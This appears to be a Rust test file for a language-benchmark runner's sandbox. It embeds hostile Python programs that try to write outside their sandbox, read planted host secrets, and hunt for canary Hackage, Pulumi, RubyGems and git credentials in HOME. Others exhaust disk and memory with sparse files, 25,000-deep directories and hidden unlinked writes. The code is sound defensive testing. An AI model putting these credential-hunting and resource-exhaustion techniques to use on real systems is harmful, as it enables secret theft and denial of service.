    let (summary, runs) = r4_run(
        &f,
        "300000",
        "2",
        &results.path().join("e"),
        state.path(),
        home.path(),
    );
    assert!(
        regex::Regex::new(r"\d\.\d\d REMEMBERED")
            .unwrap()
            .is_match(&summary)
            && summary.contains("REMEMBERED ANSWER: after run 1, a control run at N=")
            && summary.contains("this run did not do the work")
            && !summary.contains("held the answer"),
        "{summary}\n{runs}"
    );
    let (summary, runs) = r4_run(
        &f,
        "200000",
        "2",
        &results.path().join("other"),
        state.path(),
        home.path(),
    );
    assert!(!summary.contains("REMEMBERED"), "{summary}");
    assert_eq!(runs.matches("\"status\":\"ok\"").count(), 2, "{runs}");
    assert_nothing_left(&m);
}

/// Issue #39: a reference variant (`[edition] references`, contributed
/// like any entry) runs in every block of a run in rounds, outside the
/// cells, so it gets the same sandbox and the same timeout as a cell: the
/// program of `evil` tries to write into the checkout's programs, the
/// results directory and a world-writable host directory, and to read a
/// host secret; `sleeper` never ends. Every pass records `evil` as `ok`
/// (every attempt failed) and `sleeper` as a timeout, nothing is written,
/// and the cell of `plain` is measured and kept.
#[test]
fn r3_rounds_a_hostile_reference_is_contained_like_any_cell() {
    let (_, m) = marker("aref");
    let mut created = Created(Vec::new());
    let secret = PathBuf::from(format!("/var/tmp/langbench-{m}.secret"));
    created.file(&secret, "token", 0o600);
    let open_dir = PathBuf::from(format!("/var/tmp/langbench-{m}.open"));
    std::fs::create_dir(&open_dir).unwrap();
    std::fs::set_permissions(&open_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    created.0.push(open_dir.clone());
    let f_dir = tempfile::tempdir().unwrap();
    let root_dir = f_dir.path();
    let targets = [
        root_dir.join("programs/pwned"),
        root_dir.join("results/pwned"),
        open_dir.join("pwned"),
    ];
    let evil = attack(&format!(
        r#"
for p in {targets:?}:
    try:
        open(p, 'w').close()
        won.append('wrote ' + p)
    except OSError:
        pass
try:
    if open({secret:?}, 'rb').read(1):
        won.append('read the secret')
except OSError:
    pass
"#,
        secret = secret.display().to_string(),
    ));
    let entry = |id: &str, programs: &str| {
        format!(
            "[[variant]]\nid = \"{id}\"\nlanguage = \"{id}\"\nflags = \"python3 {id}\"\n\
             needs = [\"python3\"]\nversion = \"python3 --version\"\nrun = \"python3 {{src}} {{n}}\"\n\
             env = {{ LANGBENCH_TEST_MARKER = \"{m}\" }}\nprograms = {{ {programs} }}\n\n"
        )
    };
    let every = |p: &str| format!("assoc = \"{p}\", num-comb = \"{p}\", str-comb = \"{p}\"");
    let toml = format!(
        "[edition]\nreferences = [\"evil\", \"sleeper\"]\n\n{}{}{}",
        entry("plain", "num-comb = \"programs/plain.py\""),
        entry("evil", &every("programs/evil.py")),
        entry("sleeper", &every("programs/sleeper.py")),
    );
    std::fs::create_dir_all(root_dir.join("programs")).unwrap();
    std::fs::write(root_dir.join("languages.toml"), toml).unwrap();
    std::fs::write(root_dir.join("programs/plain.py"), format!("{RIGHT}\n")).unwrap();
    std::fs::write(root_dir.join("programs/evil.py"), evil).unwrap();
    std::fs::write(
        root_dir.join("programs/sleeper.py"),
        "import time\nwhile True:\n    time.sleep(1)\n",
    )
    .unwrap();
    let languages = root_dir.join("languages.toml").display().to_string();
    let out = root_dir.join("results").display().to_string();
    let o = langbench(&[
        "run",
        "--languages",
        &languages,
        "--lang",
        "plain",
        "--bench",
        "num-comb",
        "--size",
        "tiny",
        "--runs",
        "2",
        "--timeout",
        "3",
        "--out",
        &out,
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let refs = jsonl(&root_dir.join("results/references.jsonl"));
    let of = |id: &str| -> Vec<&serde_json::Value> {
        refs.iter().filter(|r| r["variant"] == id).collect()
    };
    assert!(of("evil").len() >= 2, "a pass before and after: {refs:?}");
    for r in of("evil") {
        assert_eq!(r["status"], "ok", "evil: {r}");
    }
    assert_eq!(of("sleeper").len(), of("evil").len(), "{refs:?}");
    for r in of("sleeper") {
        assert_eq!(r["status"], "timeout", "sleeper: {r}");
    }
    for t in &targets {
        assert!(!t.exists(), "{} was written", t.display());
    }
    let recs = jsonl(&root_dir.join("results/runs.jsonl"));
    assert_eq!(recs.len(), 2, "{recs:?}");
    assert!(
        recs.iter()
            .all(|r| r["variant"] == "plain" && r["status"] == "ok")
    );
    assert_nothing_left(&m);
}

// Issue #59, round four: what a run leaves on the host's disk (its
// prepared copy, its caches, its build directory) is read, walked and
// counted within bounds, and the disk watch counts what the run wrote.
// Each attack is harmless if it succeeds: sparse files (no block on
// disk), empty files and directories in the test's own tempdirs.

/// `langbench ARGS` with its state directory `state` and HOME `home`,
/// under /usr/bin/time: its output and langbench's own peak RSS (KB; its
/// children's are below it: the sandboxed python runs hold a few MB).
fn r4_run_measured(args: &[String], state: &Path, home: &Path) -> (std::process::Output, u64) {
    let rss = tempfile::NamedTempFile::new().unwrap();
    let o = Command::new("/usr/bin/time")
        .args(["-f", "%M", "-o"])
        .arg(rss.path())
        .arg(bin())
        .args(args)
        .env("LANGBENCH_STATE", state)
        .env("HOME", home)
        .env_remove("XDG_CACHE_HOME")
        .output()
        .expect("/usr/bin/time is installed (Debian package `time`)");
    let kb = std::fs::read_to_string(rss.path())
        .unwrap()
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or_else(|| panic!("no RSS from /usr/bin/time: {}", text(&o)));
    (o, kb)
}

/// Row 3 (high): a `prepare` step plants a 1 GiB sparse
/// `.langbench-sources` (langbench's list of the copy's files) and a
/// sparse program file in its private copy; the next sync read both
/// whole (a 3 GiB one made langbench 6.1 GB, status ok, no note). Now
/// langbench's own peak RSS stays under 300 MB in both sessions, the
/// planted list fails its cell with a note that names it, and a planted
/// program file alone is replaced unread (its cell stays ok).
#[test]
fn r4_row03_planted_sparse_files_never_grow_langbenchs_memory() {
    let (_, m) = marker("r4s");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let toml = format!(
        "{}{}",
        r3_entry(
            &m,
            "plant",
            "prepare = \"sh -c 'truncate -s 1G {dir}/.langbench-sources {dir}/extra.txt'\""
        ),
        r3_entry(
            &m,
            "sparse",
            "prepare = \"sh -c 'truncate -s 1G {dir}/extra.txt'\""
        ),
    );
    let right = format!("{RIGHT}\n");
    let f = Fixture::new(
        &toml,
        &[
            ("programs/plant.py", &right),
            ("programs/sparse.py", &right),
            ("programs/extra.txt", "extra\n"),
        ],
    );
    for session in 1..=2 {
        let (o, kb) = r4_run_measured(&f.run_args(&[]), state.path(), home.path());
        assert!(o.status.success(), "session {session}: {}", text(&o));
        assert!(
            kb < 300_000,
            "session {session}: langbench peaked at {kb} KB: {}",
            text(&o)
        );
        let recs = records(&f);
        let plant = &recs["plant"];
        assert_eq!(plant["status"], "failed", "{plant}");
        let detail = plant["detail"].as_str().unwrap_or_default();
        assert!(
            detail.contains(".langbench-sources") && detail.contains("1073741824 bytes"),
            "{plant}"
        );
        assert_eq!(recs["sparse"]["status"], "ok", "{}", recs["sparse"]);
    }
    // The planted copy is gone; the other one holds its planted file, not
    // a byte of which was read.
    assert!(!state.path().join("prepared/plant/num-comb").exists());
    let planted = state.path().join("prepared/sparse/num-comb/extra.txt");
    assert_eq!(std::fs::metadata(planted).unwrap().len(), 1 << 30);
}

/// Row 9 (medium): a run fills its cache with empty files (no block, so
/// never past `--cache-limit`; 600,002 files were left, statuses ok, no
/// note). Caches are counted in files too (`--file-limit`): the run that
/// leaves them past the bound fails saying files, the next session's
/// cell fails before running, and what the cache holds stays bounded.
/// A run that makes 20,000 files in its build directory is killed at the
/// bound, the note saying files.
#[test]
fn r4_row09_caches_and_runs_are_bounded_in_files_not_only_bytes() {
    let (_, m) = marker("r4f");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let empties = format!(
        "import os\np = os.path.expanduser('~/.cache/e')\nk = len(os.listdir(p))\n\
         for i in range(600):\n    open(os.path.join(p, 'f%d' % (k + i)), 'w').close()\n{RIGHT}\n"
    );
    let burst = format!(
        "import os, time\nos.mkdir('many')\nfor i in range(20000):\n    \
         open('many/f%d' % i, 'w').close()\ntime.sleep(2)\n{RIGHT}\n"
    );
    let toml = format!(
        "{}{}",
        r3_entry(&m, "empties", r#"caches = ["~/.cache/e"]"#),
        r3_entry(&m, "burst", "")
    );
    let f = Fixture::new(
        &toml,
        &[
            ("programs/empties.py", &empties),
            ("programs/burst.py", &burst),
        ],
    );
    let args = f.run_args_with_runs(
        "3",
        &[
            "--file-limit",
            "1000",
            "--cache-limit",
            "1",
            "--disk-limit",
            "200",
        ],
    );
    let o = r3_run(&args, state.path(), home.path());
    assert!(o.status.success(), "{}", text(&o));
    let runs = jsonl(&f.path().join("results/runs.jsonl"));
    let of = |id: &str| -> Vec<serde_json::Value> {
        runs.iter()
            .filter(|r| r["variant"] == id)
            .cloned()
            .collect()
    };
    let empties = of("empties");
    assert_eq!(empties[0]["status"], "ok", "{}", empties[0]);
    assert_eq!(empties[1]["status"], "failed", "{}", empties[1]);
    let detail = empties[1]["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("1001 or more files")
            && detail.contains("of 1000 files")
            && detail.contains("--file-limit"),
        "{detail}"
    );
    let burst = &of("burst")[0];
    assert_eq!(burst["status"], "failed", "{burst}");
    let detail = burst["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("creating more than 1,000 files") && detail.contains("--file-limit"),
        "{burst}"
    );
    // The next session fails the cell before it runs: no file is added.
    let cache_files = || {
        let caches = state.path().join("caches/empties");
        let version = std::fs::read_dir(&caches).unwrap().next().unwrap().unwrap();
        std::fs::read_dir(version.path().join("home/.cache/e"))
            .unwrap()
            .count()
    };
    let before = cache_files();
    assert!(before <= 1800, "{before} files");
    let o = r3_run(&args, state.path(), home.path());
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(cache_files(), before);
    let last = jsonl(&f.path().join("results/runs.jsonl"))
        .into_iter()
        .rfind(|r| r["variant"] == "empties")
        .unwrap();
    assert_eq!(last["status"], "failed", "{last}");
    assert!(
        last["detail"]
            .as_str()
            .unwrap_or_default()
            .contains("files"),
        "{last}"
    );
}

/// Row 10 (medium): a `prepare` step nests directories 25,000 deep in its
/// copy; the next session's sync gave the copy to the sandbox's user by
/// recursion and aborted with a stack overflow (exit 134), losing the
/// rest of the session, and `--resume` hit it again. Now the copy is
/// checked after its prepare steps with a bounded, iterative walk: the
/// cell fails saying how deep, the copy is removed, the session goes on
/// (the next variant is measured), in a second session and with
/// `--resume` alike.
#[test]
fn r4_row10_a_copy_nested_25000_deep_fails_its_cell_and_the_session_goes_on() {
    /// Removes a tree with `rm -rf` (iterative), before the tempdir's own
    /// removal (recursive: a copy left 25,000 deep, were the fix gone,
    /// would overflow the test's stack and abort every test).
    struct RmRf(PathBuf);
    impl Drop for RmRf {
        fn drop(&mut self) {
            let _ = Command::new("rm").arg("-rf").arg(&self.0).status();
        }
    }
    let (_, m) = marker("r4d");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let _clean = RmRf(state.path().join("prepared"));
    let nest = "import os, sys\nos.chdir(sys.argv[1])\nfor i in range(25000):\n    \
                os.mkdir('d')\n    os.chdir('d')\n";
    let toml = format!(
        "{}{}",
        r3_entry(&m, "deep", r#"prepare = "python3 {dir}/nest.py {dir}""#),
        r3_entry(&m, "after", "")
    );
    let right = format!("{RIGHT}\n");
    let f = Fixture::new(
        &toml,
        &[
            ("programs/deep.py", &right),
            ("programs/after.py", &right),
            ("programs/nest.py", nest),
        ],
    );
    for extra in [&[][..], &["--resume"][..]] {
        let o = r3_run(&f.run_args(extra), state.path(), home.path());
        assert!(o.status.success(), "{extra:?}: {}", text(&o));
        let recs = records(&f);
        let deep = &recs["deep"];
        assert_eq!(deep["status"], "failed", "{deep}");
        let detail = deep["detail"].as_str().unwrap_or_default();
        assert!(
            detail.contains("deeper than 256 levels") && detail.contains("removed"),
            "{deep}"
        );
        assert_eq!(recs["after"]["status"], "ok", "{}", recs["after"]);
        assert!(!state.path().join("prepared/deep/num-comb").exists());
    }
}

/// Also seen in round four: `--disk-limit` compared the filesystem's free
/// space only, so another process writing beside a run counted as the
/// run's, and an honest run was killed. Here the test writes 200 MB next
/// to a run bounded at 50 MB while it runs: the run is ok. A run that
/// writes 100 MB itself, or holds 100 MB in a file it unlinked (even from
/// a process that made itself undumpable), is still killed.
#[test]
fn r4_disk_limit_counts_what_the_run_wrote_not_what_others_write_beside_it() {
    let (_, m) = marker("r4w");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let tmp = tempfile::tempdir().unwrap();
    let f = Fixture::new("", &[]);
    let go = f.path().join("go");
    let calm = format!(
        "import os, time\nopen('running', 'w').close()\nt = time.time()\n\
         while not os.path.exists({go:?}) and time.time() - t < 90:\n    time.sleep(0.05)\n\
         time.sleep(1)\n{RIGHT}\n",
        go = go.display().to_string()
    );
    let hog = format!(
        "import os, time\nwith open('big', 'wb') as f:\n    for i in range(100):\n        \
         f.write(b'x' * (1 << 20))\n    f.flush()\n    os.fsync(f.fileno())\n\
         time.sleep(2)\n{RIGHT}\n"
    );
    let hidden = format!(
        "import os, time\nf = open('big', 'wb')\nos.unlink('big')\nfor i in range(100):\n    \
         f.write(b'x' * (1 << 20))\nf.flush()\nos.fsync(f.fileno())\ntime.sleep(2)\n{RIGHT}\n"
    );
    // The same, from a process that made itself undumpable: its
    // descriptors are hidden from whoever lacks CAP_SYS_PTRACE (a
    // container's root, deploy/rehearse.sh), so the loss is taken as its.
    let undumpable = format!("import ctypes\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\n{hidden}");
    let toml = format!(
        "{}{}{}{}",
        r3_entry(&m, "calm", ""),
        r3_entry(&m, "hog", ""),
        r3_entry(&m, "hidden", ""),
        r3_entry(&m, "undumpable", "")
    );
    std::fs::write(f.path().join("languages.toml"), toml).unwrap();
    std::fs::create_dir_all(f.path().join("programs")).unwrap();
    for (id, body) in [
        ("calm", &calm),
        ("hog", &hog),
        ("hidden", &hidden),
        ("undumpable", &undumpable),
    ] {
        std::fs::write(f.path().join(format!("programs/{id}.py")), body).unwrap();
    }
    let args = f.run_args(&["--disk-limit", "50", "--timeout", "120"]);
    let child = Command::new(bin())
        .args(&args)
        .env("LANGBENCH_STATE", state.path())
        .env("HOME", home.path())
        .env("TMPDIR", tmp.path())
        .env_remove("XDG_CACHE_HOME")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Once `calm` runs (its build directory holds `running`), 200 MB are
    // written beside it, on the same filesystem, outside its sandbox.
    let deadline = Instant::now() + Duration::from_secs(120);
    let running = || {
        std::fs::read_dir(tmp.path()).unwrap().flatten().any(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with("langbench-build-")
                && e.path().join("running").exists()
        })
    };
    while !running() {
        assert!(Instant::now() < deadline, "calm never ran");
        std::thread::sleep(Duration::from_millis(20));
    }
    {
        use std::io::Write;
        let mut big = std::fs::File::create(tmp.path().join("beside")).unwrap();
        for _ in 0..200 {
            big.write_all(&[7u8; 1 << 20]).unwrap();
        }
        big.sync_all().unwrap();
    }
    std::fs::write(&go, "").unwrap();
    let o = child.wait_with_output().unwrap();
    let _ = std::fs::remove_file(tmp.path().join("beside"));
    assert!(o.status.success(), "{}", text(&o));
    let recs = records(&f);
    assert_eq!(recs["calm"]["status"], "ok", "{}", recs["calm"]);
    for id in ["hog", "hidden", "undumpable"] {
        let r = &recs[id];
        assert_eq!(r["status"], "failed", "{r}");
        assert!(
            r["detail"]
                .as_str()
                .unwrap_or_default()
                .contains("writing more than 50 MB"),
            "{r}"
        );
    }
}

// Issue #59, round four.

/// Every file under `dir`, read as text where it is text (the published
/// files of a results directory), joined.
fn all_text_under(dir: &Path) -> String {
    let mut out = String::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                todo.push(p);
            } else if let Ok(t) = std::fs::read(&p) {
                out.push_str(&String::from_utf8_lossy(&t));
            }
        }
    }
    out
}

/// The canary secrets of round four's row 1, where toolchains keep such
/// files in a home (relative to it), and a bin directory on PATH beside
/// each: a Hackage password, a Pulumi token, a RubyGems key, a token in a
/// checkout's `.git/config` under `~/go/src`.
fn r4_secrets(canary: &str) -> ([(&'static str, String); 4], [&'static str; 4]) {
    (
        [
            (".cabal/config", format!("password: {canary}-hackage\n")),
            (
                ".pulumi/credentials.json",
                format!(
                    "{{\"accessTokens\": {{\"https://api.pulumi.com\": \"{canary}-pulumi\"}}}}\n"
                ),
            ),
            (
                ".gem/credentials",
                format!("---\n:rubygems_api_key: {canary}-rubygems\n"),
            ),
            (
                "go/src/x/.git/config",
                format!("[remote \"origin\"]\n\turl = https://{canary}-github@github.com/x/x\n"),
            ),
        ],
        [".cabal/bin", ".pulumi/bin", ".gem/ruby/3.1.0/bin", "go/bin"],
    )
}

/// The program of round four's row 1: it looks for the secrets by path,
/// through each bound bin directory (`bin/..`), and by walking the
/// directories they are in, and prints the canaries it read (short: a
/// note keeps 200 bytes of what a program printed), so what it reads
/// reaches the notes (it fails on purpose); the right answer only if it
/// found nothing.
fn r4_hunter(home: &Path, canary: &str, secrets: &[&str], bins: &[&str]) -> String {
    format!(
        r#"import os, re
home, canary, secrets, bins = {home:?}, {canary:?}, {secrets:?}, {bins:?}
found = set()
def read(p):
    try:
        with open(p) as f:
            found.update(re.findall(re.escape(canary) + r'-\w+', f.read()))
    except OSError:
        pass
for s in secrets:
    read(os.path.join(home, s))
    for b in bins:
        up = ['..'] * len(b.split('/'))
        read(os.path.join(home, b, *up, s))
for top in set(s.split('/')[0] for s in secrets):
    for d, _, files in os.walk(os.path.join(home, top)):
        for f in files:
            read(os.path.join(d, f))
print('; '.join(sorted(found)) if found else '0 1 1000')
"#,
        home = home.display().to_string(),
    )
}

/// Row 1 (high): a variant with no `home` entry read what the sandbox
/// bound back for the maintainer's PATH entries in HOME (`~/.cabal` for
/// `~/.cabal/bin`, `~/.pulumi`, `~/.gem`, `~/go`: each PATH entry's top
/// directory, with an 11-name list of credential files covered) and
/// published the secrets in its notes. The test plants canary secrets in
/// the real HOME with a bin directory of each on PATH (never over a file
/// that is there: then it is skipped, and never reads one), and in each
/// bin directory a file of its own. Only each PATH entry itself is bound
/// now: the program finds the four files in the bin directories (so it
/// searched where the binds are, and what it finds reaches the published
/// files: it fails on purpose) and none of the secrets beside them.
#[test]
fn r4_row01_a_path_entry_in_home_binds_only_itself_never_the_secrets_beside_it() {
    let (_, m) = marker("r4h");
    let _planting = REAL_HOME.lock().unwrap_or_else(|e| e.into_inner());
    let home = PathBuf::from(std::env::var("HOME").unwrap())
        .canonicalize()
        .unwrap();
    let canary = format!("r4h-canary-{}", std::process::id());
    let (secrets, bins) = r4_secrets(&canary);
    if let Some((s, _)) = secrets.iter().find(|(s, _)| home.join(s).exists()) {
        eprintln!("skipped: ~/{s} exists (a real one is never read by a test)");
        return;
    }
    let mut created = Created(Vec::new());
    for (s, body) in &secrets {
        created.file(&home.join(s), body, 0o644);
    }
    for (i, b) in bins.iter().enumerate() {
        created.dir(&home.join(b));
        let seen = format!("{canary}-seen{i}\n");
        created.file(&home.join(b).join("lb-r4h-control"), &seen, 0o644);
    }
    let names: Vec<&str> = secrets.iter().map(|(s, _)| *s).collect();
    let hunter = r4_hunter(&home, &canary, &names, &bins);
    let f = python_fixture(&m, &[("r4h", hunter)]);
    let mut path: Vec<PathBuf> = bins.iter().map(|b| home.join(b)).collect();
    path.extend(std::env::split_paths(&std::env::var_os("PATH").unwrap()));
    let path = std::env::join_paths(path).unwrap();
    let o = Command::new(bin())
        .args(f.run_args(&["--timeout", "60"]))
        .env("PATH", &path)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let r = &records(&f)["r4h"];
    assert_eq!(r["status"], "wrong-output", "{r}");
    let published = all_text_under(&f.path().join("results"));
    for i in 0..bins.len() {
        assert!(published.contains(&format!("{canary}-seen{i}")), "{i}: {r}");
    }
    for what in ["hackage", "pulumi", "rubygems", "github"] {
        assert!(
            !published.contains(&format!("{canary}-{what}")),
            "{what}: {r}"
        );
    }
    assert_nothing_left(&m);
}

/// Row 1, a toolchain manager's launchers (a bin directory that runs what
/// lies beside it by path, as pyenv's shims run `~/.pyenv/libexec/pyenv`
/// and it `~/.pyenv/versions/X/bin/python`): with the shims on PATH, the
/// manager's parts are bound at their own paths, so the tool runs `ok`;
/// its checkout's `.git` (and a plugin's), and a file of its directory
/// that is no part, stay out of sight, as does any listing of more than
/// the parts. A fake pyenv in a HOME of the test's own.
#[test]
fn r4_row01_a_managers_launchers_find_their_parts_and_nothing_else() {
    let (_, m) = marker("r4p");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let h = home.path().canonicalize().unwrap();
    let pyenv = h.join(".pyenv");
    let canary = format!("r4p-canary-{}", std::process::id());
    let files: [(&str, String, u32); 7] = [
        (
            "shims/lbtool",
            format!(
                "#!/bin/sh\nexec {}/libexec/lbtool-exec \"$@\"\n",
                pyenv.display()
            ),
            0o755,
        ),
        (
            "libexec/lbtool-exec",
            format!(
                "#!/bin/sh\nv=$(cat {p}/version)\nexec {p}/versions/$v/bin/lbtool \"$@\"\n",
                p = pyenv.display()
            ),
            0o755,
        ),
        (
            "versions/1.0/bin/lbtool",
            "#!/bin/sh\necho \"0 1 $1\"\n".into(),
            0o755,
        ),
        ("version", "1.0\n".into(), 0o644),
        (".git/config", format!("url = https://{canary}@x\n"), 0o644),
        (
            "plugins/p/.git/config",
            format!("url = https://{canary}@y\n"),
            0o644,
        ),
        ("notes", format!("{canary}\n"), 0o644),
    ];
    for (rel, body, mode) in &files {
        let p = pyenv.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, body).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
    std::fs::create_dir_all(pyenv.join("plugins/p/bin")).unwrap();
    let tool = Entry::sh("tool")
        .needs(&["lbtool"])
        .run("lbtool {n}")
        .env("LANGBENCH_TEST_MARKER", &m)
        .toml();
    let peek = attack(&format!(
        r#"
pyenv = {pyenv:?}
for rel in ('.git/config', 'plugins/p/.git/config', 'notes'):
    try:
        won.append('read ' + rel + ': ' + open(os.path.join(pyenv, rel)).read())
    except OSError:
        pass
for d in (pyenv, os.path.join(pyenv, 'plugins'), os.path.join(pyenv, 'plugins/p')):
    try:
        extra = set(os.listdir(d)) - {{'shims', 'libexec', 'versions', 'version', 'plugins', 'p', 'bin'}}
        if extra:
            won.append('listed ' + d + ': ' + ' '.join(sorted(extra)))
    except OSError:
        pass
"#,
        pyenv = pyenv.display().to_string()
    ));
    let f = Fixture::new(
        &format!("{tool}{}", r3_entry(&m, "peek", "")),
        &[
            ("programs/num-comb/tool.sh", ""),
            ("programs/peek.py", &peek),
        ],
    );
    let mut path = vec![pyenv.join("shims")];
    path.extend(std::env::split_paths(&std::env::var_os("PATH").unwrap()));
    let o = Command::new(bin())
        .args(f.run_args(&["--timeout", "60"]))
        .env("LANGBENCH_STATE", state.path())
        .env("HOME", &h)
        .env_remove("XDG_CACHE_HOME")
        .env("PATH", std::env::join_paths(path).unwrap())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let recs = records(&f);
    assert_eq!(recs["tool"]["status"], "ok", "{}", recs["tool"]);
    assert_eq!(recs["peek"]["status"], "ok", "{}", recs["peek"]);
    assert!(!all_text_under(&f.path().join("results")).contains(&canary));
    assert_nothing_left(&m);
}

/// Row 1, the real toolchains: what this machine installed in HOME still
/// runs under the narrow binds. rustc through rustup's proxy (only
/// `~/.cargo/bin` is bound, and `home = ["~/.rustup"]` gives the parts of
/// `~/.rustup` its toolchains read, `toolchains` and `settings.toml`,
/// files too) builds and runs a program; python3 runs where it is a pyenv
/// shim of the home (its manager's parts at their paths). A toolchain that
/// is not in HOME here is left out, saying so.
#[test]
fn r4_row01_toolchains_installed_in_home_still_run() {
    let (_, m) = marker("r4t");
    let home = PathBuf::from(std::env::var("HOME").unwrap())
        .canonicalize()
        .unwrap();
    let in_home = |tool: &str| {
        let o = Command::new("sh")
            .args(["-c", &format!("command -v {tool}")])
            .output()
            .unwrap();
        let p = PathBuf::from(String::from_utf8_lossy(&o.stdout).trim());
        o.status.success() && p.canonicalize().is_ok_and(|p| p.starts_with(&home))
    };
    let mut toml = String::new();
    let mut files = vec![];
    let mut ids = vec![];
    if in_home("rustc") && home.join(".rustup/settings.toml").is_file() {
        toml.push_str(&format!(
            "[[variant]]\nid = \"rs\"\nlanguage = \"Rs\"\nflags = \"rustc rs\"\n\
             needs = [\"rustc\"]\nversion = \"rustc --version\"\n\
             build = \"rustc -o {{exe}} {{src}}\"\nrun = \"{{exe}} {{n}}\"\n\
             home = [\"~/.rustup\"]\nenv = {{ LANGBENCH_TEST_MARKER = \"{m}\" }}\n\
             programs = {{ num-comb = \"programs/rs.rs\" }}\n\n"
        ));
        let program = "fn main() {\n    let n: u64 = std::env::args().nth(1).unwrap().parse().unwrap();\n    \
                       println!(\"0 1 {n}\");\n}\n";
        files.push(("programs/rs.rs", program.to_string()));
        ids.push("rs");
    } else {
        eprintln!("rustc is not rustup's in HOME here: left out");
    }
    if in_home("python3") {
        toml.push_str(&r3_entry(&m, "py", ""));
        files.push(("programs/py.py", format!("{RIGHT}\n")));
        ids.push("py");
    } else {
        eprintln!("python3 is not in HOME here: left out");
    }
    if ids.is_empty() {
        return;
    }
    let files: Vec<(&str, &str)> = files.iter().map(|(p, b)| (*p, b.as_str())).collect();
    let f = Fixture::new(&toml, &files);
    let o = f.run(&["--timeout", "120"]);
    assert!(o.status.success(), "{}", text(&o));
    let recs = records(&f);
    for id in ids {
        assert_eq!(recs[id]["status"], "ok", "{id}: {}", recs[id]);
    }
    assert_nothing_left(&m);
}
